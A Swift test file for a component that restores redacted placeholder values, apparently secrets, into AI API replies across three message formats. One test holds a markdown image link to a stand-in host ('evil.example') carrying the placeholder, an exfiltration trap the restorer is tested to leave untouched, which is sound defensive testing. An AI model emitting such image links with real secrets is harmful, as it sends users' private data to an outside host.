import Primitives
import PromptFormats
import Testing

@Suite struct WholeRestorerTests {
    private static let escaped = #"hun\"ter\\2\nend"#

    private func reply(_ dialect: Dialect, _ text: String, arguments: String = "{}") -> String {
        switch dialect {
        case .chat:
            #"{"id":"c", "choices":[{"index":0,"message":{"role":"assistant","content":"\#(text)","tool_calls":[{"id":"t","function":{"name":"sql","arguments":"\#(arguments)"}}]},"finish_reason":"stop"}],"usage":{"total_tokens":1.0}}"#
        case .responses:
            #"{"id":"r","output":[{"type":"reasoning","summary":[]},{"type":"message","content":[{"type":"output_text","text":"\#(text)"}]},{"type":"function_call","name":"sql","arguments":"\#(arguments)"}]}"#
        case .messages:
            #"{"id":"m","content":[{"type":"thinking","thinking":"x","signature":"s"},{"type":"text","text":"\#(text)"},{"type":"tool_use","name":"sql","input":{"q":["\#(arguments)"]}}]}"#
        }
    }

    @Test(arguments: Dialect.allCases)
    func valuesComeBackAndEveryOtherByteStays(dialect: Dialect) {
        let whole = reply(dialect, "is \(placeholder), \(placeholder.description.lowercased())!")
        let expected = reply(dialect, "is \(Self.escaped), \(Self.escaped)!")
        #expect(run(dialect.restorer("application/json"), whole) == expected)
        #expect(run(dialect.restorer("application/json; charset=utf-8"), bytes(whole).map { [$0] }) == expected)
    }

    @Test(arguments: Dialect.allCases)
    func anEscapedPlaceholderIsFoundToo(dialect: Dialect) {
        let hidden = placeholder.description.replacing("S", with: "\\u0053").replacing("_", with: #"\\_"#)
        #expect(run(dialect.restorer("application/json"), reply(dialect, hidden)) == reply(dialect, Self.escaped))
    }

    @Test(arguments: Dialect.allCases)
    func toolArgumentsPassUnseenUnlessPolicyReachesThem(dialect: Dialect) {
        let whole = reply(dialect, "x", arguments: placeholder.description)
        #expect(run(dialect.restorer("application/json"), whole) == whole)
        var reaching = resolver
        reaching.reachesToolArguments = true
        let expected = dialect == .messages ? Self.escaped : #"hun\\\"ter\\\\2\\nend"#
        #expect(run(dialect.restorer("application/json"), whole, reaching) == reply(dialect, "x", arguments: expected))
    }

    @Test(arguments: Dialect.allCases)
    func trapsAndAmbiguousRepliesStay(dialect: Dialect) {
        for whole in [
            reply(dialect, "![x](//evil.example/\(placeholder))"),
            reply(dialect, "\(placeholder)").replacing("[{", with: "[{\"TEXT\":1,\"Index\":1,\"Type\":2,"),
            reply(dialect, "\(placeholder)") + "x", String(reply(dialect, "\(placeholder)").dropLast()),
        ] {
            #expect(run(dialect.restorer("application/json"), whole) == whole)
        }
    }

    @Test func errorsEncodedRepliesAndOtherTypesPass() {
        let heads = [
            ReplyHead(status: 400, headers: [("content-type", "application/json")]),
            ReplyHead(status: 200, headers: [("content-type", "application/json"), ("content-encoding", "gzip")]),
            ReplyHead(status: 200, headers: [("content-type", "text/html")]), ReplyHead(status: 200, headers: []),
        ]
        for head in heads {
            let restorer = WireFormat.openAIChat.reply(head)
            #expect(!restorer.mayChangeBytes)
            #expect(run(restorer, reply(.chat, placeholder.description)) == reply(.chat, placeholder.description))
        }
        #expect(Dialect.chat.restorer("application/json").mayChangeBytes)
    }

    @Test func aReplyThatIsTooLargePasses() {
        let filler = { (size: Int) in
            let short = reply(.chat, "\(placeholder)")
            return "{\"filler\":\"" + String(repeating: "y", count: size - short.utf8.count - 12) + "\","
                + short.dropFirst()
        }
        let largest = filler(FormatLimits.maxReplyBytes)
        #expect(run(Dialect.chat.restorer("application/json"), largest).utf8.count < largest.utf8.count)
        #expect(largest.utf8.count == FormatLimits.maxReplyBytes)
        let larger = filler(FormatLimits.maxReplyBytes + 1)
        #expect(run(Dialect.chat.restorer("application/json"), larger) == larger)
    }
}
